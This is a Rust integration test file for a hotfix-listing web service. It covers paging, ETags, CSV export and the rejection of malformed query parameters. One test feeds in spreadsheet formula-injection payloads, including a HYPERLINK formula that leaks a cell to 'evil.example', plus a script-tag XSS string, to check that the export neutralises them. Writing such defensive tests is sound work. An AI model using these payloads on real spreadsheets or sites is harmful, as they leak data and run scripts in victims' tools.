//! Lists over real sockets: JSON, CSV, paging, refusals.

use hotfixd::model::Source;

use crate::support::service::{Service, hotfix};

fn link(reply: &crate::support::service::Reply) -> Option<String> {
    let link = reply.headers.get("link")?;
    let (target, rel) = link.strip_prefix("<?").unwrap().split_once('>').unwrap();
    assert_eq!(rel, "; rel=\"next\"");
    Some(target.to_owned())
}

#[test]
fn pages_follow_one_another_by_link_and_by_cursor() {
    let service = Service::demo();
    service.publish(&[hotfix("XS65E911", 1), hotfix("XS65E912", 1), hotfix("XS65E913", 1)]);
    let all = service.get("/api/v1/hotfixes?q=XS65E91&sort=id").json();
    let ids: Vec<&str> = all["items"].as_array().unwrap().iter().map(|i| i["id"].as_str().unwrap()).collect();
    assert_eq!(ids, ["XS65E911", "XS65E912", "XS65E913"]);
    assert_eq!((&all["total"], &all["next"]), (&3.into(), &serde_json::Value::Null));
    assert!(all["of"].as_u64().unwrap() > 3);
    let (mut query, mut seen) = ("q=XS65E91&sort=id&limit=2".to_owned(), Vec::new());
    loop {
        let reply = service.get(&format!("/api/v1/hotfixes?{query}"));
        let page = reply.json();
        seen.extend(page["items"].as_array().unwrap().iter().map(|i| i["id"].as_str().unwrap().to_owned()));
        assert_eq!(page["total"], 3);
        let Some(next) = link(&reply) else { break };
        assert!(next.ends_with(&format!("cursor={}", page["next"].as_str().unwrap())));
        query = next;
    }
    assert_eq!(seen, ids);
    let reply = service.get("/api/v1/hotfixes?q=XS65E911");
    let again = service.request(
        "GET",
        "/api/v1/hotfixes?q=XS65E911",
        &[("if-none-match", reply.headers["etag"].as_str())],
        b"",
    );
    assert_eq!((again.status, again.body.len()), (304, 0));
    // What is released is in the next answer, with the time at which it was.
    let before = reply.json()["items"][0]["released_at"].as_str().unwrap().to_owned();
    service.publish(&[hotfix("XS65E911", 2)]);
    let item = service.get("/api/v1/hotfixes?q=XS65E911").json()["items"][0].clone();
    assert_eq!(item["revision"], 2);
    assert!(item["released_at"].as_str().unwrap() >= before.as_str());
    assert_eq!(item["status"], "released");
}

#[test]
fn products_are_a_list_as_well() {
    let service = Service::demo();
    let all = service.get("/api/v1/products").json();
    let total = all["total"].as_u64().unwrap();
    assert!(all["items"].as_array().unwrap().iter().any(|product| product["id"] == "xenserver"));
    let (mut cursor, mut count) = (String::new(), 0);
    loop {
        let page = service.get(&format!("/api/v1/products?limit=1&cursor={cursor}")).json();
        count += page["items"].as_array().unwrap().len() as u64;
        match page["next"].as_str() {
            Some(next) => next.clone_into(&mut cursor),
            None => break,
        }
    }
    assert_eq!(count, total);
    assert_eq!(service.get("/api/v1/products?q=zebra").json()["total"], 0);
    for bad in ["cursor=xenserver", "limit=0", "sort=id", "limit=1&limit=1"] {
        assert_eq!(service.get(&format!("/api/v1/products?{bad}")).status, 400, "{bad}");
    }
}

#[test]
fn spreadsheets_get_text_and_nothing_else() {
    let service = Service::demo();
    let source = |id: &str, title: &str| {
        let text = format!(
            "schema = \"hotfixd/hotfix/1\"\nid = \"{id}\"\nrevision = 1\nproduct = \"xenserver\"\n\
             kind = \"hotfix\"\ntitle = '''{title}'''\nreleases = [\"6.5\"]\n"
        );
        Source::from_toml(&format!("{id}.toml"), &text).unwrap()
    };
    service.publish(&[
        source("XS65E921", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
        source("XS65E922", "+1, \"two\""),
        source("XS65E923", "-2+3"),
        source("XS65E924", "@SUM(1)"),
        source("XS65E925", "<script>alert(1)</script>"),
    ]);
    let reply = service.get("/api/v1/hotfixes.csv?q=XS65E92&sort=id");
    assert_eq!(reply.headers["content-type"], "text/csv; charset=utf-8; header=present");
    assert_eq!(reply.headers["content-disposition"], "attachment; filename=\"hotfixes.csv\"");
    assert!(reply.headers.contains_key("etag"));
    assert_eq!(service.get("/api/v1/hotfixes?format=csv&q=XS65E92&sort=id").body, reply.body);
    let mut csv = csv::Reader::from_reader(reply.body.as_slice());
    let at = |name: &str, head: &csv::StringRecord| head.iter().position(|column| column == name).unwrap();
    let head = csv.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = csv.records().map(|row| row.unwrap()).collect();
    let titles: Vec<&str> = rows.iter().map(|row| &row[at("title", &head)]).collect();
    assert_eq!(
        titles,
        [
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "'+1, \"two\"",
            "'-2+3",
            "'@SUM(1)",
            "<script>alert(1)</script>"
        ]
    );
    assert_eq!((&rows[0][at("status", &head)], &rows[0][at("releases", &head)]), ("released", "6.5"));
    let advisories = service.get("/api/v1/advisories.csv").text();
    let row = advisories.lines().find(|line| line.contains("XS65-TRIM")).unwrap();
    assert!(row.starts_with("xenserver,XS65-TRIM,1,") && row.contains(",critical,data-loss,"), "{row}");
    // Page by page, where somebody wants that.
    let first = service.get("/api/v1/hotfixes?format=csv&q=XS65E92&sort=id&limit=3");
    assert_eq!(first.text().lines().count(), 4);
    let second = service.get(&format!("/api/v1/hotfixes?{}", link(&first).unwrap()));
    assert_eq!(second.text().lines().count(), 3);
    assert_eq!(link(&second), None);
}

#[test]
fn a_query_that_is_not_understood_is_refused() {
    let service = Service::demo();
    let many = format!("/api/v1/advisories?{}", vec!["q=a"; 10_000].join("&"));
    let cases = [
        ("/api/v1/advisories?severty=high", "unknown_parameter", "severty"),
        ("/api/v1/advisories?after=x/y", "unknown_parameter", "after"),
        ("/api/v1/advisories?severity=hihg", "bad_parameter", "severity"),
        ("/api/v1/advisories?release=9.9", "bad_parameter", "release"),
        ("/api/v1/advisories?kind=hotfix", "unknown_parameter", "kind"),
        ("/api/v1/advisories?cursor=%00", "bad_parameter", "cursor"),
        ("/api/v1/advisories?format=xml", "bad_parameter", "format"),
        ("/api/v1/advisories?format=csv&format=csv", "bad_parameter", "format"),
        ("/api/v1/advisories.csv?format=csv", "unknown_parameter", "format"),
        ("/api/v1/hotfixes?year=%D9%A2%D9%A0%D9%A1%D9%A5", "bad_parameter", "year"),
        ("/api/v1/hotfixes?sort=%1b[31m", "bad_parameter", "sort"),
        (&many, "bad_parameter", ""),
    ];
    for (path, code, field) in cases {
        let reply = service.get(path);
        let what = format!("{path:.80}: {}", reply.text());
        assert_eq!((reply.status, reply.word("/code").as_str()), (400, code), "{what}");
        assert_eq!(reply.word("/field"), field, "{what}");
        assert_eq!(reply.headers["content-type"], "application/problem+json", "{what}");
        assert!(!reply.text().contains('\u{1b}'), "{what}");
    }
    let known = service.get("/api/v1/advisories?x").word("/remedy");
    assert!(known.ends_with("sort, limit, cursor, format."), "{known}");
    let endless = format!("GET /api/v1/advisories?q={} HTTP/1.1\r\nhost: a\r\n\r\n", "x".repeat(300_000));
    let answer = service.raw(endless.as_bytes());
    assert!(answer.is_empty() || answer.starts_with("HTTP/1.1 4"), "{answer:.200}");
}
